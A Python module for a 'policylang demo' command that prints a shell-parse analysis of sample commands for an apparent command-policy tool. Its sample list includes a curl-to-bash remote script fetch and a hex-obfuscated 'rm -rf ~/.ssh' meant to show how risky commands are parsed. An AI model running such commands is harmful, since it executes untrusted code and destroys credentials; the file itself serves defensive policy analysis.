"""`policylang demo`: the README's main command — show the analysis of sample commands.

Until the engine exists this prints the shell model of a few sample commands; it will
evaluate them against the shipped default ruleset once that lands.
"""

from __future__ import annotations

import argparse

SAMPLES: tuple[str, ...] = (
    "git status && git log --oneline -5",
    "ls -la | grep '\\.py$' > /tmp/py-files.txt",
    "find . -name '*.pyc' -exec rm {} +",
    "echo $(curl -s https://example.com/install.sh) | bash",
    "$'\\x72\\x6d' -rf ~/.ssh",
)


def register(subparsers: argparse._SubParsersAction[argparse.ArgumentParser]) -> None:
    parser = subparsers.add_parser(
        "demo",
        help="run sample commands through policylang",
        description="Run a few sample commands through policylang and print the result.",
    )
    parser.set_defaults(func=run)


def run(args: argparse.Namespace) -> int:
    from policylang.cli import parse_cmd

    for command in SAMPLES:
        print(f"$ {command}")
        print(parse_cmd.render_text(command))
        print()
    return 0
